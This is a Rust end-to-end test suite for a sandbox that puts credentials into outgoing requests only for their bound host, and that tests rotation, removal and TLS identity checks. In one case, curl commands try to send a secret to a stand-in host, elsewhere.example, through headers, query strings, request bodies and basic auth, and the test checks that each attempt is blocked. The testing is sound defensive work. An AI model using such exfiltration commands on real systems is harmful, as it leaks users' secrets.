//! Credentials that are put in on the wire, and where they are not.

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};

use e2e::{Case, Verdict, ensure};
use http::header::{AUTHORIZATION, HeaderName, HeaderValue};
use http::{Request, StatusCode};
use hyper::body::Incoming;
use network::{Authority, Handler, How, NAME, Named, Net, answer, handler};
use rustix::process::{Pid, Signal, kill_process};
use serde_json::Value;

pub(crate) const CASES: &[Named] = &[
    ("a_value_is_put_in_masked_in_answers_and_replaced_at_once", put_in),
    ("a_placeholder_on_its_way_elsewhere_is_stopped", elsewhere),
    ("what_is_set_and_removed_is_so_in_all_that_run_and_nothing_else_is_touched", changes),
    ("a_host_that_cannot_prove_its_name_gets_nothing", unproved),
    ("a_value_of_a_program_is_asked_for_again_while_a_session_goes_on", asked_again),
];

/// Says in header and body what it was shown.
fn mirror() -> Handler {
    handler(|request: Request<Incoming>| async move {
        let shown = request.headers().get(AUTHORIZATION).cloned();
        let shown = shown.unwrap_or_else(|| HeaderValue::from_static("nothing"));
        let mut response = answer(StatusCode::OK, [b"you said ", shown.as_bytes(), b"\n"].concat());
        response.headers_mut().insert(HeaderName::from_static("x-shown"), shown);
        response
    })
}

fn shown(site: &network::Site) -> Vec<String> {
    let field = |one: &network::Seen| Some(one.headers.get(AUTHORIZATION)?.to_str().ok()?.to_owned());
    site.seen().iter().filter_map(field).collect()
}

fn put_in(net: &Net) -> Case {
    let host = "api.kept.example";
    let site = net.site(host, How::default(), mirror())?;
    net.allow(&["api.kept.example:443"])?;
    net.keep("kept", host, "KEPT", "first-value-of-the-secret")?;
    let ask = format!("curl -sS -m 60 -D- -H \"Authorization: Bearer $KEPT\" https://{host}/");
    // One session goes on while the value is replaced, and then removed.
    let folder = net.shared();
    let script = format!(
        "echo $KEPT; {ask}; touch asked; while [ ! -e replaced ]; do sleep 0.1; done; {ask} >/dev/null; rm asked; \
         while [ ! -e removed ]; do sleep 0.1; done; {ask} -o /dev/null -w '%{{http_code}}'; rm replaced removed"
    );
    let said = std::thread::scope(|scope| {
        let session = scope.spawn(|| net.guest(&script));
        let control = || -> Case {
            e2e::eventually("the first request", || folder.join("asked").exists())?;
            net.keep("kept", host, "KEPT", "second-value-of-the-secret")?;
            std::fs::write(folder.join("replaced"), "")?;
            e2e::eventually("the second request", || !folder.join("asked").exists())?;
            net.viv_ok(&["secret", "rm", "-f", "kept"])?;
            std::fs::write(folder.join("removed"), "")?;
            Ok(())
        };
        let controlled = control();
        // Whatever went wrong, the session must end.
        for name in ["replaced", "removed"] {
            if controlled.is_err() {
                std::fs::write(folder.join(name), "")?;
            }
        }
        let said = session.join().map_err(|_| Verdict::Wrong("the session panicked".into()))?;
        controlled.and(said)
    })?;
    let text = said.text();
    let placeholder = text.lines().next().unwrap_or_default();
    ensure(placeholder.len() > 8 && !text.contains("value-of-the-secret"), &text)?;
    let answered = [format!("x-shown: Bearer {placeholder}"), "you said Bearer ".to_owned()];
    ensure(answered.iter().all(|line| text.contains(line.as_str())), &text)?;
    let expected = ["first", "second"].map(|which| format!("Bearer {which}-value-of-the-secret"));
    // Without the secret its placeholder is a word like any other, or refused; the value is not there.
    let all = shown(&site);
    ensure(all.get(..2) == Some(&expected), format!("{all:?}"))?;
    ensure(all.iter().skip(2).all(|value| value == &format!("Bearer {placeholder}")), format!("{all:?}"))
}

fn elsewhere(net: &Net) -> Case {
    let (bound, other) = ("bound.example", "elsewhere.example");
    let _site = net.site(bound, How::default(), mirror())?;
    let trap = net.site(other, How::default(), mirror())?;
    let plain =
        net.site_at(bound, net.address(false), How { port: Some(80), alpn: &[], six: false }, mirror())?;
    net.names.addresses("plain.elsewhere.example", &[plain.address.ip()]);
    net.keep("stray", bound, "STRAY", "value-that-strays-nowhere")?;
    net.allow(&["bound.example"])?;
    net.allow(&["--path", "/**", "elsewhere.example:443"])?;
    net.allow(&["--path", "/**", "plain.elsewhere.example:80"])?;
    let code = "curl -sS -m 60 -o /dev/null -w '%{http_code} '";
    let said = net.guest_ok(&format!(
        "{code} -H \"X-Key: $STRAY\" https://{other}/; {code} https://{other}/?k=$STRAY; {code} -d \"data=$STRAY\" https://{other}/; \
         {code} -u user:$STRAY https://{other}/; {code} -H \"X-Key: $STRAY\" http://plain.elsewhere.example/; {code} https://{other}/"
    ))?;
    let hint = net.told(
        &format!("curl -sS -m 60 -H \"X-Key: $STRAY\" https://{other}/told"),
        "GET elsewhere.example/told  A SECRET WAS ON ITS WAY",
    );
    net.viv_ok(&["secret", "rm", "-f", "stray"])?;
    ensure(said == "403 403 403 403 403 200", &said)?;
    let hint = hint?;
    ensure(hint.contains("stray") && !hint.contains("value-that-strays"), hint)?;
    let seen = format!("{:?} {:?}", trap.seen(), plain.seen());
    ensure(!seen.contains("value-that-strays"), seen)?;
    // A body is streamed: its request may have begun.
    ensure(
        plain.seen().is_empty() && trap.seen().iter().all(|one| one.target.query().is_none()),
        "it got there",
    )?;
    net.recorded(other, "an attempt to get it out", |record| record["kind"] == "Exfiltration")?;
    let log = net.viv_ok(&["policy", "log", "--json", NAME])?;
    ensure(!log.contains("value-that-strays"), "the value is in the log")
}

const MANY: &str = "api.many.example";

/// Secrets of their own beside those of other cases, locked with a passphrase.
struct Locked<'a>(&'a Net);

impl Locked<'_> {
    fn command(&self, words: &[&str]) -> Command {
        let mut command = self.0.world.viv(self.0.scratch(), words);
        command.env("XDG_DATA_HOME", self.0.scratch().join("locked"));
        command
    }

    /// With the passphrase, and a variable that only some shells have.
    fn open(&self, words: &[&str]) -> Result<Command, Verdict> {
        let passphrase = self.0.scratch().join("passphrase");
        std::fs::write(&passphrase, "correct horse battery staple\n")?;
        let mut command = self.command(words);
        command.env("VIV_VAULT_PASSPHRASE_FILE", passphrase).env("HOSTS_GAMMA", "value-of-gamma-1");
        Ok(command)
    }
}

fn succeeds(command: Command, input: &str) -> Case {
    let said = e2e::say(command, input.as_bytes())?;
    ensure(said.code == 0, format!("{said:?}"))
}

/// The words that make a secret for that host.
fn custom<'a>(name: &'a str, variable: &'a str, more: &[&'a str]) -> Vec<&'a str> {
    [&["secret", "set-custom", name, "--host", MANY, "--env", variable], more].concat()
}

/// A process that is ended with the case, and may have been stopped meanwhile.
struct Ended(Child);

impl Drop for Ended {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn changes(net: &Net) -> Case {
    let site = net.site(MANY, How::default(), mirror())?;
    net.allow(&["api.many.example:443"])?;
    let locked = Locked(net);
    // Goes on, so that the sandbox does.
    let mut session = net.world.viv(net.scratch(), ["exec", NAME, "sleep", "1000"]);
    let _session = Ended(session.stdin(Stdio::null()).stdout(Stdio::null()).spawn()?);
    succeeds(locked.open(&custom("alpha", "ALPHA", &["--store", "passphrase"]))?, "value-of-alpha-1")?;
    succeeds(locked.open(&custom("gamma", "GAMMA", &["--from-env", "HOSTS_GAMMA"]))?, "")?;
    // In a shell that has neither the passphrase nor the variable.
    for value in ["value-of-beta-1", "value-of-beta-2"] {
        succeeds(locked.command(&custom("beta", "BETA", &[])), value)?;
    }
    let ask = |words: &str| -> Result<Vec<String>, Verdict> {
        let before = shown(&site).len();
        let each = format!("curl -sS -m 60 -o /dev/null -H \"Authorization: $word\" https://{MANY}/");
        net.guest_ok(&format!("echo $ALPHA >> /tmp/alpha; for word in {words}; do {each}; done"))?;
        Ok(shown(&site).split_off(before))
    };
    let all = ask("$ALPHA $BETA $GAMMA")?;
    ensure(all == ["value-of-alpha-1", "value-of-beta-2", "value-of-gamma-1"], format!("{all:?}"))?;
    of_programs(&locked)?;
    let all = ask("$EPSILON $ZETA")?;
    ensure(all == ["value-of-epsilon-1", "value-of-zeta-1"], format!("{all:?}"))?;
    // The next sandbox has no such program.
    succeeds(locked.command(&["secret", "rm", "-f", "epsilon", "zeta"]), "")?;
    let name = start_late(net, &locked)?;
    change_late(net, &locked, &name, &site)?;
    // One sandbox that does not answer keeps no other one from being told.
    let inspected: Value = serde_json::from_str(&net.viv_ok(&["inspect", &name])?)?;
    let shim = inspected["processes"]["shim"].as_i64().and_then(|pid| Pid::from_raw(pid.try_into().ok()?));
    let shim = shim.ok_or_else(|| Verdict::Wrong(format!("{inspected}")))?;
    kill_process(shim, Signal::STOP)?;
    let said = e2e::say(locked.command(&["secret", "rm", "-f", "alpha"]), b"");
    // Nor is a rule taken away of which it may have more in memory.
    let rule = ["policy", "rm", "--sandbox", &name, "--resource", "api.many.example:443"];
    let kept = net.world.run(&rule);
    kill_process(shim, Signal::CONT)?;
    let (said, kept) = (said?, kept?);
    ensure(kept.code == 125 && kept.text().is_empty(), format!("{kept:?}"))?;
    net.viv_ok(&rule)?;
    let is_told = said.err.contains(&format!("{name}: ")) && said.err.contains(&format!("viv stop {name}"));
    ensure(said.code == 125 && is_told && said.text() == "alpha", format!("{said:?}"))?;
    let all = ask("$(head -n 1 /tmp/alpha) $BETA $GAMMA")?;
    ensure(!all.iter().any(|value| value == "value-of-alpha-1"), format!("{all:?}"))?;
    ensure(all.ends_with(&["value-of-beta-2", "value-of-gamma-1"].map(str::to_owned)), format!("{all:?}"))?;
    net.viv_ok(&["rm", "-f", &name])?;
    succeeds(locked.command(&["secret", "rm", "-f", "beta", "gamma"]), "")
}

/// What stands in for 1Password's program: it knows the words that its documentation has, and this one reference.
const OP: &str =
    "#!/bin/sh\n[ \"$*\" = 'read --no-newline op://Work/Zeta/token' ] || exit 3\nprintf value-of-zeta-1\n";

/// Secrets whose values programs of the host give: the host's shell, and a provider's own.
fn of_programs(locked: &Locked<'_>) -> Case {
    let programs = locked.0.scratch().join("programs");
    std::fs::create_dir_all(&programs)?;
    let op = programs.join("op");
    std::fs::write(&op, OP)?;
    std::fs::set_permissions(&op, std::fs::Permissions::from_mode(0o755))?;
    let rest = std::env::var_os("PATH").unwrap_or_default();
    let path = std::env::join_paths(std::iter::once(programs).chain(std::env::split_paths(&rest)))?;
    // Without a time at which other sessions would ask for them again.
    let by_shell = ["--refresh", "on-demand", "--command", "printf value-of-; echo epsilon-1"];
    succeeds(locked.command(&custom("epsilon", "EPSILON", &by_shell)), "")?;
    let by_provider = ["--refresh", "on-demand", "--ref", "op://Work/Zeta/token"];
    let mut by_provider = locked.command(&custom("zeta", "ZETA", &by_provider));
    by_provider.env("PATH", path);
    succeeds(by_provider, "")
}

/// A program that gives a value once it is told to, and takes its time till then.
struct Slow {
    asked: PathBuf,
    go: PathBuf,
}

impl Slow {
    fn new(folder: &Path, name: &str) -> Self {
        let [asked, go] = ["asked", "go"].map(|end| folder.join(format!("{name}-{end}")));
        Self { asked, go }
    }

    fn giving(&self, value: &str) -> String {
        let (asked, go) = (self.asked.display(), self.go.display());
        format!("touch {asked}; until [ -e {go} ]; do sleep 0.1; done; echo {value}")
    }

    /// Does that while a command waits for the program.
    fn meanwhile(&self, command: Command, what: impl FnOnce() -> Case) -> Case {
        std::thread::scope(|scope| {
            let waiting = scope.spawn(|| succeeds(command, ""));
            let done = e2e::eventually("the program is run", || self.asked.exists()).and_then(|()| what());
            // Whatever went wrong, the program must end.
            std::fs::write(&self.go, "")?;
            let waited = waiting.join().map_err(|_| Verdict::Wrong("who waits panicked".into()))?;
            done.and(waited)
        })
    }
}

/// Starts a sandbox and removes one of its secrets while the program still works that gives its value. The sandbox's name.
fn start_late(net: &Net, locked: &Locked<'_>) -> Result<String, Verdict> {
    let folder = net.world.project("late");
    let name = "shell-late";
    succeeds(net.world.viv(&folder, ["create", "shell", "."]), "")?;
    let slow = Slow::new(&folder, "delta");
    let program = slow.giving("value-of-delta-1");
    let more = ["--sandbox", name, "--no-verify", "--command", &program];
    succeeds(locked.command(&custom("delta", "DELTA", &more)), "")?;
    slow.meanwhile(locked.open(&["start", "-d", name])?, || {
        succeeds(locked.command(&["secret", "rm", "-f", "--sandbox", name, "delta"]), "")
    })?;
    let said = net.viv_ok(&["exec", name, "sh", "-c", "echo ${DELTA-none} ${ALPHA+alpha}"])?;
    ensure(said == "none alpha", &said)?;
    Ok(name.to_owned())
}

/// In a sandbox that runs, a program still works that gives one secret's value while another is set and a third one removed: nothing of
/// it is lost, and nothing comes back.
fn change_late(net: &Net, locked: &Locked<'_>, name: &str, site: &network::Site) -> Case {
    let own = ["--sandbox", name];
    let set = |name: &str, variable: &str, value: &str| {
        succeeds(locked.command(&custom(name, variable, &own)), value)
    };
    let remove =
        |name: &str| succeeds(locked.command(&[&["secret", "rm", "-f"], &own[..], &[name]].concat()), "");
    net.viv_ok(&["policy", "allow", "--sandbox", name, "api.many.example:443"])?;
    set("iota", "IOTA", "value-of-iota-1")?;
    let slow = Slow::new(net.scratch(), "eta");
    let program = slow.giving("value-of-eta-1");
    let more = [&own[..], &["--refresh", "on-demand", "--no-verify", "--command", &program]].concat();
    let iota = net.viv_ok(&["exec", name, "sh", "-c", "echo $IOTA"])?;
    slow.meanwhile(locked.command(&custom("eta", "ETA", &more)), || {
        set("theta", "THETA", "value-of-theta-1").and_then(|()| remove("iota"))
    })?;
    let each = format!("curl -sS -m 60 -o /dev/null -H \"Authorization: $word\" https://{MANY}/");
    let before = shown(site).len();
    let script = format!("for word in $ETA $THETA {iota}; do {each}; done");
    net.viv_ok(&["exec", name, "sh", "-c", &script])?;
    let all = shown(site).split_off(before);
    let are_in_force = all.starts_with(&["value-of-eta-1", "value-of-theta-1"].map(str::to_owned));
    ensure(are_in_force && !all.iter().any(|value| value == "value-of-iota-1"), format!("{all:?}"))?;
    remove("eta").and_then(|()| remove("theta"))
}

fn unproved(net: &Net) -> Case {
    let host = "impostor.example";
    let stranger = Authority::new("somebody else's root").map_err(|error| network::wrong(&error))?;
    let certificates = [stranger.certify(&[host]), net.authority.certify(&["another.example"])];
    net.keep("proof", host, "PROOF", "value-for-the-true-one")?;
    net.allow(&["impostor.example:443"])?;
    for certificate in certificates {
        let certificate = certificate.map_err(|error| network::wrong(&error))?;
        let site = net.site_with(host, &certificate, mirror())?;
        let said = net.guest_ok(&format!(
            "curl -sS -m 60 -o /dev/null -w '%{{http_code}}' -H \"Authorization: $PROOF\" https://{host}/"
        ))?;
        ensure(said == "502", &said)?;
        ensure(site.connections() > 0 && site.seen().is_empty(), format!("{:?}", site.seen()))?;
    }
    net.viv_ok(&["secret", "rm", "-f", "proof"]).map(|_| ())
}

/// In a sandbox of its own, as what is asked for again is asked for by any session that there is. A minute is the shortest time.
fn asked_again(net: &Net) -> Case {
    if !e2e::long_cases() {
        return Err(Verdict::Skipped(e2e::LONG.into()));
    }
    let host = "api.fresh.example";
    let site = net.site(host, How::default(), mirror())?;
    let (folder, name) = (net.world.project("fresh"), "shell-fresh");
    net.world.shell_ok(&folder, "true")?;
    net.viv_ok(&["policy", "allow", "--sandbox", name, "api.fresh.example:443"])?;
    let calls = net.scratch().join("calls").display().to_string();
    let program = format!("echo >> {calls}; echo value-of-call-$(wc -l < {calls})");
    let binding = ["secret", "set-custom", "fresh", "--host", host, "--env", "FRESH", "--sandbox", name];
    net.viv_ok(&[&binding[..], &["--refresh", "60s", "--command", &program]].concat())?;
    let script = format!(
        "end=$(($(date +%s) + 300)); until [ -e enough ] || [ $(date +%s) -gt $end ]; do \
         curl -sS -m 60 -o /dev/null -H \"Authorization: $FRESH\" https://{host}/; sleep 2; done"
    );
    let values = || {
        let mut all = shown(&site);
        all.dedup();
        all
    };
    let said = std::thread::scope(|scope| {
        let session = scope.spawn(|| net.world.shell_ok(&folder, &script));
        let seen = e2e::eventually("the first value", || !values().is_empty())
            .and_then(|()| e2e::eventually("the second value", || values().len() > 1));
        // Whatever went wrong, the session must end.
        std::fs::write(folder.join("enough"), "")?;
        let said = session.join().map_err(|_| Verdict::Wrong("the session panicked".into()))?;
        seen.and(said)
    });
    net.viv_ok(&["secret", "rm", "-f", "--sandbox", name, "fresh"])?;
    net.viv_ok(&["rm", "-f", name])?;
    said?;
    let all = values();
    ensure(all.iter().all(|value| value.starts_with("value-of-call-")), format!("{all:?}"))
}
